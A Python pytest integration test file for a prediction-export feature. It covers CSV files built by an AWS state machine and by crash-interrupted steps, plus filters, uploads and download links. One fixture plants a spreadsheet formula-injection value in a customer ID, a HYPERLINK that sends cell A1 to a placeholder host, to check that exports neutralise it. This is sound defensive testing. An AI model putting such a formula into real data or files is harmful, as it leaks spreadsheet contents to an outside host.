"""Files of predictions that are made by a run: asked for over HTTP, made by the state machine, and by its steps with crashes in between."""

import csv
import io
import json
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager
from functools import partial
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import boto3
import pytest
import yaml

from retainstream.dashboard.consume import COUNT
from retainstream.dashboard.fold import recount
from retainstream.engine.schema import default_schema
from retainstream.predictions.results import Filters
from retainstream.runs.exports import file as export
from retainstream.runs.exports import request as export_requests
from retainstream.runs.exports import steps as export_run
from retainstream.runs.exports import view as export_view
from retainstream.runs.exports.layout import FileLayout
from retainstream.runs.exports.view import file_key
from retainstream.settings import settings
from retainstream.storage.clients import dynamodb, s3
from retainstream.storage.predictions import Predictions
from retainstream.storage.rollups import Rollups
from retainstream.storage.runs import Run, Runs
from retainstream.storage.stores import Stores
from tests.integration.base_of_customers import prediction, some_base, storage_down, store_predictions, without_interval
from tests.integration.state_machines import run_machines
from tests.small_models import put_in_service

type Call = Callable[..., Any]
type Row = dict[str, Any]

DEFINITION = Path(__file__).parents[2] / "statemachines/export.asl.yaml"
FUNCTION = "arn:aws:lambda:eu-west-1:123456789012:function:exports"
RESULTS, EXPORTS = "/api/predictions/results", "/api/predictions/exports"
PEOPLE = 90
RISK_LEVELS, PLANS = ("low", "medium", "high", "critical"), ("basic", "standard", "premium")

DATA = FileLayout(data=True)


class Crash(BaseException):
    """The process is gone."""


@pytest.fixture
def base(aws: None, monkeypatch: pytest.MonkeyPatch) -> Iterator[list[Row]]:
    """Predictions, a model in service, and limits by which a file takes several pages and parts and is never made at once."""
    monkeypatch.setenv("EXPORT_AT_ONCE", "0")
    settings.cache_clear()
    monkeypatch.setattr(export_run, "PAGE", 7)
    monkeypatch.setattr(export_run, "PART", 2000)
    monkeypatch.setattr("moto.s3.models.S3_UPLOAD_PART_MIN_SIZE", 2000)
    put_in_service()
    rows = some_base(PEOPLE, seed=5)
    Predictions().delete(rows[0]["customer_id"])
    rows[0]["customer_id"] = '=HYPERLINK("https://x.example?"&A1,"é")\r\n,y'
    store_predictions([*rows, prediction("gone", 0.9, churned=True)])
    yield rows
    settings.cache_clear()


@pytest.fixture
def machine(base: list[Row], monkeypatch: pytest.MonkeyPatch) -> Callable[[str], Run]:
    """The export machine, deployed. Calling it waits until the run of that id has ended, and gives its record."""
    run_machines(monkeypatch)

    states = boto3.client("stepfunctions")
    definition = json.dumps(yaml.safe_load(DEFINITION.read_text().replace("${ExportsFunctionArn}", FUNCTION)))
    role = "arn:aws:iam::123456789012:role/states"
    arn = states.create_state_machine(name="test-export", definition=definition, roleArn=role)["stateMachineArn"]
    assert arn == settings().export_state_machine_arn

    def wait(run_id: str) -> Run:
        execution = arn.replace(":stateMachine:", ":execution:") + f":{run_id}"
        deadline = time.monotonic() + 60
        while (told := states.describe_execution(executionArn=execution))["status"] == "RUNNING" and time.monotonic() < deadline:
            time.sleep(0.02)
        record = Runs().existing(run_id)
        assert told["status"] == record["status"], told
        return record

    return wait


@pytest.fixture
def idle_machine(base: list[Row]) -> None:
    """A machine in the export's place that does nothing."""
    definition = json.dumps({"StartAt": "Done", "States": {"Done": {"Type": "Succeed"}}})
    role = "arn:aws:iam::123456789012:role/states"
    boto3.client("stepfunctions").create_state_machine(name="test-export", definition=definition, roleArn=role)


def asked(call: Call, query: str = "", **options: Any) -> Row:
    answer = call("predictions", "GET", RESULTS, query=f"format=data&{query}".rstrip("&"), role="analyst", **options)
    assert answer.status == 202, answer.body
    found: Row = answer.body["data"]
    assert answer.headers["Location"] == f"{EXPORTS}/{found['run_id']}"
    return found


def shown(call: Call, run_id: str) -> Row:
    answer = call("predictions", "GET", f"{EXPORTS}/{run_id}", role="analyst")
    assert answer.status == 200, answer.body
    found: Row = answer.body["data"]
    return found


def content(key: str) -> bytes:
    found: bytes = s3().get_object(Bucket=settings().bucket, Key=key)["Body"].read()
    return found


def linked(url: str) -> bytes:
    return content(urlsplit(url).path.split("/", 2)[2] if "amazonaws.com/test-bucket" in url else urlsplit(url).path[1:])


def lines_of(file: bytes) -> list[str]:
    return sorted(json.dumps(row) for row in csv.reader(io.StringIO(file.decode(), newline="")))


def wanted(rows: list[Any], filters: Filters | None = None) -> list[str]:
    """The lines of the file of these filters, in no order."""
    schema = default_schema()
    fit = [row for row in rows if (filters or Filters()).keep(row)]
    return lines_of(export.header_of(schema, DATA) + export.rows_of(schema, DATA, fit))


def test_a_file_has_the_interval_of_each_probability_that_has_one() -> None:
    rows = [prediction("c1", 0.5), without_interval(prediction("c2", 0.5))]
    file = export.header_of(default_schema(), DATA) + export.rows_of(default_schema(), DATA, rows)
    columns = ("probability", "probability_low", "probability_high", "confidence")
    assert [[line[column] for column in columns] for line in csv.DictReader(io.StringIO(file.decode(), newline=""))] == [
        ["0.5", "0.47", "0.53", "0.94"],
        ["0.5", "", "", ""],
    ]


def test_a_file_for_a_spreadsheet_has_words_and_the_separator_and_mark_of_its_country() -> None:
    schema, rows = default_schema(), [prediction("=Müller", 0.5)]
    layout = FileLayout("semicolon", "comma")
    file = export.header_of(schema, layout) + export.rows_of(schema, layout, rows)
    assert file.startswith(b"\xef\xbb\xbfCustomer;Probability;Level;Probability from;")
    (line,) = csv.DictReader(io.StringIO(file.decode("utf-8-sig"), newline=""), delimiter=";")
    assert (line["Customer"], line["Probability"], line["Probability from"]) == ("'=Müller", "0,5", "0,47")
    assert any(header.startswith("Value at risk (") for header in line)
    poor = schema.model_copy(update={"money": None})
    (line,) = csv.DictReader(
        io.StringIO((export.header_of(poor, layout) + export.rows_of(poor, layout, rows)).decode(), newline=""), delimiter=";"
    )
    assert not any("alue" in header for header in line)
    assert len(line) == len(export.header_of(poor, layout).split(b";"))


def uploads_left() -> list[Any]:
    return list(s3().list_multipart_uploads(Bucket=settings().bucket).get("Uploads", []))


@pytest.mark.parametrize(
    ("query", "filters"),
    [
        ("", Filters()),
        ("level=low", Filters(level="low")),
        ("plan=basic", Filters(group="basic")),
        ("min_probability=0.1&max_probability=0.8", Filters(min_probability=0.1, max_probability=0.8)),
        ("level=high&plan=premium", Filters(level="high", group="premium")),
        ("model_version=unheard-of", Filters(model_version="unheard-of")),
    ],
)
def test_a_run_makes_the_file_of_every_row_that_fits(
    call: Call, base: list[Row], machine: Callable[[str], Run], query: str, filters: Filters
) -> None:
    started = asked(call, query)
    assert (started["kind"], started["url"], started["expires_at"], started["reason"]) == ("export", None, None, None)
    machine(started["run_id"])
    found = shown(call, started["run_id"])
    assert (found["status"], found["reason"]) == ("SUCCEEDED", None)
    file = linked(found["url"])
    assert lines_of(file) == wanted(base, filters)
    assert found["rows"] == len(lines_of(file)) - 1
    assert found["examined"] == PEOPLE + 1
    assert uploads_left() == []


def test_a_small_file_is_made_at_once_and_is_the_same(call: Call, base: list[Row], monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("EXPORT_AT_ONCE", "100")
    settings.cache_clear()
    answer = call("predictions", "GET", RESULTS, query="format=data", role="analyst")
    assert answer.status == 200
    assert lines_of(linked(answer.body["data"]["url"])) == wanted(base)
    assert answer.body["data"]["rows"] == len(wanted(base)) - 1


def test_a_file_that_takes_too_long_is_made_by_a_run(
    call: Call, base: list[Row], idle_machine: None, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("EXPORT_AT_ONCE", "100")
    settings.cache_clear()
    monkeypatch.setattr(export, "SECONDS_AT_ONCE", -1.0)
    asked(call)


def test_the_counters_say_what_is_large(call: Call, base: list[Row], idle_machine: None, monkeypatch: pytest.MonkeyPatch) -> None:
    critical = sum(row["level"] == "critical" and not row["churned"] for row in base)
    monkeypatch.setenv("EXPORT_AT_ONCE", str(critical))
    settings.cache_clear()
    counters = recount(COUNT["predictions"], base)
    Rollups().put_if_version("predictions", Rollups().counters("predictions").version, counters)
    assert call("predictions", "GET", RESULTS, query="format=data&level=critical").status == 200
    assert asked(call)["predictions"] == sum(counters.get(f"level/{level}/{plan}", 0) for level in RISK_LEVELS for plan in PLANS)
    reads: list[str] = []
    dynamodb().meta.events.register("before-call.dynamodb.Scan", lambda **_: reads.append("scan"), unique_id="reads")
    asked(call, "plan=basic")
    dynamodb().meta.events.unregister("before-call.dynamodb.Scan", unique_id="reads")
    assert reads == []


def test_the_same_question_gets_the_same_run_whoever_asks(call: Call, idle_machine: None) -> None:
    first = asked(call, "plan=basic")["run_id"]
    assert asked(call, "plan=basic", user="bob@example.com")["run_id"] == first
    assert asked(call, "plan=premium")["run_id"] != first
    Runs().finish(first, counts={"rows": 3, "examined": 9})
    assert asked(call, "plan=basic")["run_id"] == first
    assert len(list(Runs()._table.scan().items)) == 2


def test_scoring_everybody_makes_the_same_question_a_new_one(call: Call, idle_machine: None) -> None:
    first = asked(call)["run_id"]
    scored_again: Any = {"run_id": "scored-again", "at": "2026-11-21T10:00:00+00:00"}
    Rollups().add_trend(scored_again)
    assert asked(call)["run_id"] != first


def test_a_failed_run_and_one_of_long_ago_are_asked_for_anew(call: Call, idle_machine: None, monkeypatch: pytest.MonkeyPatch) -> None:
    ids = [asked(call)["run_id"]]
    Runs().fail(ids[-1], "because")
    ids.append(asked(call)["run_id"])
    assert shown(call, ids[0])["reason"] == "because"
    Runs().finish(ids[-1], counts={})
    assert asked(call)["run_id"] == ids[-1]
    monkeypatch.setattr(export_requests, "ANSWERED_AGAIN_SECONDS", -1)
    ids.append(asked(call)["run_id"])
    assert len(set(ids)) == 3


def test_a_new_link_each_time_and_none_when_the_file_is_gone(
    call: Call, machine: Callable[[str], Run], monkeypatch: pytest.MonkeyPatch
) -> None:
    run_id = asked(call)["run_id"]
    machine(run_id)

    def lasts() -> str:
        return parse_qs(urlsplit(shown(call, run_id)["url"]).query)["X-Amz-Expires"][0]

    assert lasts() == "900"
    monkeypatch.setattr(export_view, "LINK_SECONDS", 60)
    assert lasts() == "60"
    s3().delete_object(Bucket=settings().bucket, Key=file_key(run_id))
    found = shown(call, run_id)
    assert (found["status"], found["url"], found["expires_at"]) == ("SUCCEEDED", None, None)
    assert found["reason"] == "The file is no longer kept. Ask for it again."


@pytest.mark.parametrize("run_id", ["nothing", "scored", "x" * 80])
def test_an_export_that_there_is_not(call: Call, run_id: str) -> None:
    Runs().start("scored", "scoring", "ann")
    answer = call("predictions", "GET", f"{EXPORTS}/{run_id}")
    assert (answer.status, answer.body["type"]) == (404, "urn:retainstream:problem:not-found")


@pytest.mark.parametrize(
    ("query", "field"), [("plan=gold", "query.plan"), ("level=all", "query.level"), ("min_probability=2", "query.min_probability")]
)
def test_bad_filters_start_nothing(call: Call, idle_machine: None, query: str, field: str) -> None:
    answer = call("predictions", "GET", RESULTS, query=f"format=data&{query}")
    assert answer.status == 422
    assert [error["field"] for error in answer.body["errors"]] == [field]
    assert not list(Runs()._table.scan().items)


def test_exports_are_for_those_who_are_signed_in(call: Call, idle_machine: None) -> None:
    assert call("predictions", "GET", f"{EXPORTS}/{asked(call)['run_id']}", role=None).status == 401


def test_when_nothing_can_be_started_no_run_is_left_behind(call: Call, base: list[Row]) -> None:
    assert call("predictions", "GET", RESULTS, query="format=data").status == 503  # no machine is deployed
    assert not list(Runs()._table.scan().items)
    with storage_down():
        assert call("predictions", "GET", f"{EXPORTS}/x").status == 503


def test_a_row_nobody_can_read_fails_the_run_and_leaves_no_upload(call: Call, machine: Callable[[str], Run]) -> None:
    by_hand: Any = {"customer_id": "by hand", "churned": False}
    Predictions().put_many([by_hand])
    run_id = asked(call)["run_id"]
    record = machine(run_id)
    assert record["status"] == "FAILED"
    assert "the log of the exports function has the details" in shown(call, run_id)["reason"]
    assert shown(call, run_id)["url"] is None
    assert uploads_left() == []


class Steps:
    """An export, step by step as its machine makes it; a step that dies is made again."""

    def __init__(self, run_id: str, seconds_left: float = 900.0, filters: Filters | None = None) -> None:
        self.run_id = run_id
        self.stores = Stores()
        self.seconds_left = seconds_left
        self.event: Any = {
            "run_id": run_id,
            "input": {**export_requests.asked_for(filters or Filters(), DATA, PEOPLE), "started_by": "ann"},
        }

    def run(self) -> None:
        written = self._surely(self.begin)
        while not written["done"]:
            written = self._surely(partial(self.write, written, self.seconds_left))
        self._surely(lambda: self.finish(written))

    def begin(self) -> export_run.Written:
        return export_run.begin(self.stores, self.event)

    def write(self, written: export_run.Written, seconds_left: float) -> export_run.Written:
        return export_run.write(self.stores, self.event | {"progress": written["progress"]}, lambda: seconds_left)

    def finish(self, written: export_run.Written) -> None:
        export_run.finish(self.stores, self.event | {"progress": written["progress"]})

    @property
    def file(self) -> bytes:
        return content(file_key(self.run_id))

    def _surely(self, do: Callable[[], Any]) -> Any:
        while True:
            try:
                return do()
            except Crash:
                continue


@contextmanager
def calls_to_storage(moment: str, hook: Callable[..., None]) -> Iterator[None]:
    with ExitStack() as stack:
        for client, name in ((dynamodb(), "dynamodb"), (s3(), "s3")):
            events: Any = client.meta.events
            events.register(f"{moment}.{name}", hook)
            stack.callback(events.unregister, f"{moment}.{name}", hook)
        yield


@pytest.mark.usefixtures("tidy_answers")
@pytest.mark.parametrize("moment", ["before-call", "after-call"])
def test_a_crash_at_any_call_doubles_and_loses_no_row(base: list[Row], moment: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export_run, "PAGE", 12)
    calls = 0

    def count(**_: Any) -> None:
        nonlocal calls
        calls += 1

    with calls_to_storage(moment, count):
        undisturbed = Steps("whole", seconds_left=0)
        undisturbed.run()
    assert lines_of(undisturbed.file) == wanted(base)
    assert calls > 40
    for number in range(calls):
        left = number

        def die(**_: Any) -> None:
            nonlocal left
            left -= 1
            if left == -1:
                raise Crash

        steps = Steps(f"run{number}", seconds_left=0)
        with calls_to_storage(moment, die):
            steps.run()
        assert lines_of(steps.file) == wanted(base), number
        assert left < 0
        record = Runs().existing(f"run{number}")
        assert (record["status"], record["counts"]) == ("SUCCEEDED", {"rows": len(wanted(base)) - 1, "examined": PEOPLE + 1})
        assert uploads_left() == []


def test_a_try_that_came_further_than_its_successor_leaves_nothing_in_the_file(base: list[Row]) -> None:
    steps = Steps("run")
    written = steps.begin()
    steps.write(written, 900.0)  # its answer was lost
    store_predictions([prediction(f"new-{number}", 0.3) for number in range(5)])
    while not written["done"]:
        written = steps.write(written, 0.0)
    steps.finish(written)
    everybody = [row for page in Predictions().segment_pages() for row in page]
    assert lines_of(content(file_key("run"))) == wanted(everybody)


@pytest.mark.parametrize("seconds_left", [0.0, 900.0])
def test_nobody_to_write_gives_a_file_with_a_header(base: list[Row], seconds_left: float) -> None:
    steps = Steps("run", seconds_left, Filters(model_version="unheard-of"))
    steps.run()
    assert steps.file == export.header_of(default_schema(), DATA)


def test_a_file_that_is_not_what_was_read_is_never_linked(call: Call, base: list[Row]) -> None:
    steps = Steps("run")
    written = steps.begin()
    with pytest.raises(export_run.IncompleteExport, match="Not all that was read"):
        steps.finish(written)
    written = steps.write(written, 900.0)
    s3().put_object(Bucket=settings().bucket, Key=file_key("run"), Body=b"something else")
    with pytest.raises(export_run.IncompleteExport, match=f"The file has 14 bytes; {len(wanted(base)) - 1} rows of"):
        steps.finish(written)
    export_run.fail(steps.stores, steps.event | {"error": {"Error": "IncompleteExport", "Cause": "It is not complete."}})
    assert (shown(call, "run")["status"], shown(call, "run")["url"]) == ("FAILED", None)
    assert uploads_left() == []
